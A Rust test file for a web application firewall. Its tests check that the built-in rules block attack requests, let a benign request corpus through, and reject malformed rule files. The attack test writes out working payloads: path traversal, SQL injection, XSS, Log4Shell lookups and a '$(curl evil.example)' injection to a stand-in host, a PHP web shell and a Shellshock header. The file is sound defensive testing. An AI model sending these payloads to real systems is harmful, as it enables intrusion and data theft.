//! The built-in set on requests: what it refuses, with which rule, and what it must let through.

use std::sync::Arc;

use gateway_waf::{Connection, Ruleset, Services, Transaction, Verdict};

use super::*;

const BENIGN: &str = include_str!("../../crates/waf/tests/data/benign.tsv");

fn built_in() -> Arc<Ruleset> {
    load(&Waf::default()).expect("built-in rules").ruleset
}

struct Request<'a> {
    method: &'a str,
    uri: &'a str,
    headers: &'a [(&'a str, &'a str)],
    body: &'a [u8],
}

/// The verdict, and the ids of the rules that matched.
fn inspect(ruleset: &Arc<Ruleset>, request: &Request<'_>) -> (Verdict, Vec<u64>) {
    let mut tx = Transaction::new(Arc::clone(ruleset), Services::default());
    tx.begin(&Connection {
        client: ([192, 0, 2, 1], 40000).into(),
        server: ([192, 0, 2, 2], 443).into(),
        unix_nanos: 1_763_712_000_000_000_000,
        utc_offset_seconds: 0,
        unique_id: "test",
        web_app_id: "default",
    });
    tx.request_line(request.method.as_bytes(), request.uri.as_bytes(), b"HTTP/1.1");
    tx.request_header(b"Host", b"www.example.org");
    for (name, value) in request.headers {
        tx.request_header(name.as_bytes(), value.as_bytes());
    }
    let mut verdict = tx.request_headers();
    if !verdict.is_blocking() {
        if tx.wants_request_body() {
            tx.write_request_body(request.body);
        }
        verdict = tx.request_body();
    }
    tx.logging(1_763_712_000_000_000_000);
    (verdict, tx.matches().iter().map(|m| m.rule.id).collect())
}

#[test]
fn attacks_are_refused_by_the_rule_that_knows_them() {
    const FORM: &[(&str, &str)] = &[("Content-Type", "application/x-www-form-urlencoded")];
    const JSON: &[(&str, &str)] = &[("Content-Type", "application/json")];
    let ruleset = built_in();
    let check = |rule: u64, method: &str, uri: &str, headers: &[(&str, &str)], body: &str| {
        let (verdict, rules) = inspect(&ruleset, &Request { method, uri, headers, body: body.as_bytes() });
        assert_eq!(verdict, Verdict::Deny { status: 403, rule_id: 5_100_900 }, "{uri} {body} {rules:?}");
        assert!(rules.contains(&rule), "{uri} {body}: {rule} not among {rules:?}");
    };
    let get = |rule, uri| check(rule, "GET", uri, &[], "");
    get(5_100_300, "/../../etc/passwd");
    get(5_100_300, "/download?file=..%2f..%2f..%2fetc%2fhosts");
    get(5_100_300, "/download?file=..%252f..%252fsecret");
    get(5_100_301, "/view?page=/etc/passwd");
    get(5_100_301, "/view?page=%2Fproc%2Fself%2Fenviron");
    get(5_100_302, "/view?page=php://filter/convert.base64-encode/resource=index");
    get(5_100_303, "/fetch?url=http://169.254.169.254/latest/meta-data/");
    get(5_100_201, "/.git/config");
    get(5_100_201, "/.env");
    get(5_100_400, "/ping?host=127.0.0.1;cat%20/tmp/x");
    get(5_100_400, "/ping?host=a%7Cid");
    get(5_100_403, "/?x=${jndi:ldap://evil.example/a}");
    get(5_100_500, "/item?id=1%27%20OR%20%271%27=%271");
    get(5_100_500, "/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--");
    get(5_100_501, "/item?id=1%20and%20sleep(5)");
    get(5_100_600, "/q?s=%3Cscript%3Ealert(1)%3C/script%3E");
    get(5_100_600, "/q?s=%3Cimg%20src=x%20onerror=alert(1)%3E");
    get(5_100_700, "/q?s=%3C?php%20system($_GET[0]);");
    get(5_100_703, "/q?__proto__[admin]=1");
    get(5_100_704, "/q?name={{7*7}}");
    get(5_100_704, "/q?name={{config.items()}}");
    get(5_100_102, "/q?lang=en%0d%0aSet-Cookie:%20a=b");
    check(5_100_200, "GET", "/", &[("User-Agent", "sqlmap/1.7")], "");
    check(5_100_402, "GET", "/", &[("User-Agent", "() { :; }; /bin/bash -c id")], "");
    check(5_100_403, "GET", "/", &[("X-Api-Version", "${jndi:rmi://evil/x}")], "");
    check(5_100_500, "POST", "/login", FORM, "user=admin%27--&password=x");
    check(5_100_600, "POST", "/comments", FORM, "comment=%3Csvg/onload=alert(1)%3E");
    check(5_100_500, "POST", "/api/items", JSON, r#"{"filter":{"name":"x' or 1=1--"}}"#);
    check(5_100_400, "POST", "/api/ping", JSON, r#"{"host":"$(curl evil.example)"}"#);
}

#[test]
fn benign_requests_pass() {
    let ruleset = built_in();
    let mut count = 0;
    let mut refused = Vec::new();
    for line in BENIGN.lines().filter(|l| !l.starts_with('#')) {
        let mut columns = line.split('\t');
        let mut next = || columns.next().unwrap_or("");
        let (method, uri, kind, body, cookie) = (next(), next(), next(), next(), next());
        let body = unescape(body);
        let length = body.len().to_string();
        let mut headers = vec![
            ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
            ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
            ("Accept-Language", "de,en-US;q=0.7,en;q=0.3"),
            ("Referer", "https://www.example.org/search?q=chairs&page=2"),
        ];
        if !kind.is_empty() {
            headers.extend([("Content-Type", kind), ("Content-Length", length.as_str())]);
        }
        if !cookie.is_empty() {
            headers.push(("Cookie", cookie));
        }
        let (verdict, rules) = inspect(&ruleset, &Request { method, uri, headers: &headers, body: &body });
        count += 1;
        if verdict != Verdict::Pass {
            refused.push(format!("{method} {uri} {} by {rules:?}", String::from_utf8_lossy(&body)));
        }
    }
    assert!(count >= 300, "only {count} requests");
    assert!(refused.is_empty(), "{} of {count} refused:\n{}", refused.len(), refused.join("\n"));
}

/// `\r`, `\n` and `\\` of the data file as bytes.
fn unescape(text: &str) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    let mut bytes = text.bytes();
    while let Some(byte) = bytes.next() {
        match (byte, byte == b'\\') {
            (_, true) => match bytes.next() {
                Some(b'r') => out.push(b'\r'),
                Some(b'n') => out.push(b'\n'),
                Some(other) => out.push(other),
                None => out.push(b'\\'),
            },
            (other, false) => out.push(other),
        }
    }
    out
}

#[test]
fn a_bad_file_is_refused_with_its_place() {
    let folder = std::env::temp_dir().join(format!("gateway-rules-{}", std::process::id()));
    std::fs::create_dir_all(&folder).expect("folder");
    let file = folder.join("bad.conf");
    std::fs::write(&file, "SecRuleEngine On\nSecRule ARGS \"@rx (\" \"id:1,phase:2,deny\"\n").expect("file");
    let error = load(&Waf { rules: Origin::Files(vec![file.clone()]), ..Waf::default() })
        .expect_err("refused")
        .to_string();
    assert!(error.contains(&format!("{}:2:", file.display())), "{error}");
    let missing = folder.join("none.conf");
    let error = load(&Waf { rules: Origin::Files(vec![missing.clone()]), ..Waf::default() })
        .expect_err("refused")
        .to_string();
    assert!(error.contains(&missing.display().to_string()), "{error}");
    std::fs::remove_dir_all(&folder).expect("folder");
}
